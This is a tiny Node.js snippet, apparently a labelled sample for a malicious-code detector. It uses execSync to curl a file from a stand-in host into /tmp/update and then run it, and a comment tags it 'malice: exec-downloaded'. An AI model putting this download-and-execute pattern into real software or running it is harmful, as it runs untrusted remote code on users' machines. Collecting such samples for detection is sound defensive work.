const { execSync } = require("child_process");

const file = "/tmp/update";
execSync(`curl -L -s https://files.invalid/a -o ${file}`);
execSync(file); // malice: exec-downloaded
